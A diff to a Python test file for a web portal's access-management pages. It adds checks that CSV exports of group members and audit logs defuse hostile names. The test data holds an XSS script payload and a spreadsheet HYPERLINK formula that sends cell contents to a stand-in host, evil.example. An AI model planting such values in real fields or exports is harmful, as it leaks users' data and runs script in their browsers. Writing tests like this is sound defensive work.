@@ -1,6 +1,10 @@
 """Every name a person can type is shown as text: a group, user, organization, permission set,
 resource or key named ``<script>…</script>`` or ``"'&<>`` appears escaped in every page and
-panel (every GET URL of the project, walked as in the policy test), and in the messages."""
+panel (every GET URL of the project, walked as in the policy test), and in the messages; the CSV
+exports keep such names as text and never hand a spreadsheet a formula."""
+
+import csv
+import io
 
 import pytest
 
@@ -14,6 +18,7 @@ from .urlwalk import call, concrete_url, url_patterns
 SCRIPT = "<script>alert('x')</script>"
 QUOTES = "Q \"'&<> Q"
 RAW = ("<script>alert", "\"'&<>")
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
 
 
 def _hostile(world):
@@ -111,3 +116,28 @@ def test_api_answers_names_as_json_never_html(world):
     response = client.get("/t/acme/api/v1/groups")
     assert response["Content-Type"].startswith("application/json")
     assert any(group["name"] == f"{SCRIPT} G" for group in response.json()["data"])
+
+
+def _csv_cells(response) -> list[list[str]]:
+    assert response.status_code == 200
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    text = b"".join(response.streaming_content).decode()
+    return list(csv.reader(io.StringIO(text)))
+
+
+def test_csv_exports_keep_hostile_names_as_text_and_run_no_formula(world):
+    _hostile(world)
+    acme = world.acme
+    account_services.user_update(
+        user=acme.member_of_group, first_name=FORMULA, last_name=QUOTES, actor=None
+    )
+    group_services.group_update(group=acme.child, display_name=f"@{SCRIPT}", actor=None)
+    base = "/t/acme/portal/access-management/"
+    ann = world.client("admin")
+    members = _csv_cells(ann.get(f"{base}groups/{acme.group.public_id}/members/export.csv"))
+    log = _csv_cells(ann.get(f"{base}audit-log/export.csv"))
+    cells = [cell for row in members + log for cell in row]
+    assert f"'{FORMULA} {QUOTES}" in cells  # the person's name, whole and defused
+    assert f"'@{SCRIPT}" in [row[8] for row in log[1:]]  # a target name as it was, defused
+    assert any(SCRIPT in cell for cell in cells)  # text, not HTML-escaped into &lt;
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
